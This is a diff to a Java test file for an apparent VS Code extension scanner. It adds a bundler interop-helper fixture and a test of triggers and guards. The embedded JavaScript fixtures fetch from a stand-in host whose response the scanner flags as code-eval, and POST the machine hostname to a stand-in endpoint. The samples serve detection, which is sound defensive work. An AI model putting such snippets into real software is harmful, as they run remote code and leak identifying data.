@@ -2,6 +2,7 @@ package dev.vsxray.scanner.javascript.flow;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import dev.vsxray.scanner.model.Trigger;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
 
@@ -87,6 +88,29 @@ class InteropCopiesTest {
             }
             """;
 
+    /** As swc, and Babel before 7.23, write it: a module that was copied before is taken from where it was kept. */
+    private static final String WITH_A_CACHE = """
+            function cacheOf(nodeInterop) {
+              if (typeof WeakMap !== "function") return null;
+              var ofBabel = new WeakMap(), ofNode = new WeakMap();
+              return (cacheOf = function(nodeInterop) { return nodeInterop ? ofNode : ofBabel; })(nodeInterop);
+            }
+            function copied(obj, nodeInterop) {
+              if (!nodeInterop && obj && obj.__esModule) return obj;
+              if (obj === null || typeof obj !== "object" && typeof obj !== "function") return { default: obj };
+              var cache = cacheOf(nodeInterop);
+              if (cache && cache.has(obj)) return cache.get(obj);
+              var newObj = { __proto__: null }, described = Object.defineProperty && Object.getOwnPropertyDescriptor;
+              for (var key in obj) if (key !== "default" && Object.prototype.hasOwnProperty.call(obj, key)) {
+                var desc = described ? Object.getOwnPropertyDescriptor(obj, key) : null;
+                if (desc && (desc.get || desc.set)) Object.defineProperty(newObj, key, desc); else newObj[key] = obj[key];
+              }
+              newObj.default = obj;
+              if (cache) cache.set(obj, newObj);
+              return newObj;
+            }
+            """;
+
     private static final String USE = """
             const https = copied(require('https'));
             exports.activate = () => https.get('https://update.example/p', response => {
@@ -97,16 +121,32 @@ class InteropCopiesTest {
             """;
 
     @ParameterizedTest
-    @ValueSource(strings = {TYPESCRIPT_5_8, TYPESCRIPT_4, ESBUILD, BABEL})
+    @ValueSource(strings = {TYPESCRIPT_5_8, TYPESCRIPT_4, ESBUILD, BABEL, WITH_A_CACHE})
     void staysTheModule(String copies) {
         assertThat(Analysis.of(copies + USE).flowNames()).contains("network-response -> code-eval");
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {TYPESCRIPT_5_8, TYPESCRIPT_4, ESBUILD, BABEL})
+    @ValueSource(strings = {TYPESCRIPT_5_8, TYPESCRIPT_4, ESBUILD, BABEL, WITH_A_CACHE})
     void isNotAnotherModule(String copies) {
         assertThat(Analysis.of(copies + USE.replace("require('https')", "require('./other')"))
                         .flowNames())
                 .isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {TYPESCRIPT_5_8, TYPESCRIPT_4, ESBUILD, BABEL, WITH_A_CACHE})
+    void isNothingElseBesides(String copies) {
+        Analysis analysis = Analysis.of(copies + """
+                const vscode = copied(require('vscode')), again = copied(require('vscode'));
+                exports.activate = () => vscode.commands.registerCommand('send', async () => {
+                  if (await again.window.showInformationMessage('Send it?', { modal: true }, 'Send')) {
+                    fetch('https://support.example/log', { method: 'POST', body: require('os').hostname() });
+                  }
+                });
+                """);
+
+        assertThat(analysis.triggers("account-identity", "network-send")).containsExactly(Trigger.USER_COMMAND);
+        assertThat(analysis.guards("account-identity", "network-send")).containsExactly("user-confirmation");
     }
 }
